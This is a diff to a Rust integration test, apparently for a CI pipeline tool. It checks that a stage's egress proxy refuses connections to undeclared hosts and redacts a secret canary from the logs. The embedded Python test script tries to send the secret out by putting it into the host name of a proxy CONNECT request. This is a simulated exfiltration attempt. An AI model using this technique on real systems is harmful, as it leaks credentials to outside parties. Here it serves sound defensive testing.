@@ -812,6 +812,10 @@ const EGRESS_CLIENT: &str = r#"
 import os, socket, sys
 proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
 print("proxy vars", sorted(k for k in os.environ if k.lower().endswith("_proxy")), flush=True)
+# A target the proxy refuses, naming the stage's secret: the run's log must not show it.
+s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])), timeout=20)
+s.sendall(f"CONNECT {os.environ['CANARY']}.example:443 HTTP/1.1\r\n\r\n".encode())
+print("secret target", s.recv(64).split(b"\r\n")[0].decode(), flush=True)
 for port in sys.argv[1:]:
     s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])), timeout=20)
     s.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
@@ -854,8 +858,13 @@ fn a_stage_that_names_its_hosts_reaches_only_them() {
     let other = serve(b"OTHER-REACHED\n");
     let pipeline = format!(
         r#"pipeline "egress"
+secret "canary" env="CANARY" can="" {{
+    visible-to "fetch"
+}}
 stage "fetch" uses="run" network="127.0.0.1:{declared}" {{
+    allow "untrusted-input" reason="the attacker's script, from the checkout, holding the secret it tries to send"
     command "python3" "scripts/egress.py" "{declared}" "{other}"
+    secret-env "CANARY" "canary"
 }}
 "#
     );
@@ -875,9 +884,14 @@ stage "fetch" uses="run" network="127.0.0.1:{declared}" {{
         assert!(!log.contains("OTHER-REACHED"), "{user:?}: {log}");
         assert!(!log.contains(" REACHED"), "{user:?}: {log}");
         assert!(
-            log.contains("egress: 1 tunnel(s) opened, 1 request(s) refused"),
+            log.contains("secret target HTTP/1.1 403 Forbidden"),
             "{user:?}: {log}"
         );
+        assert!(
+            log.contains("egress: 1 tunnel(s) opened, 2 request(s) refused (first: [redacted:canary].example:443"),
+            "{user:?}: {log}"
+        );
+        assert!(!log.contains(CANARY), "{user:?}: {log}");
         if layer_held_or_said(&case, "network-namespace", &log, &pipeline) {
             assert!(
                 log.contains(&format!("direct {declared} refused")),
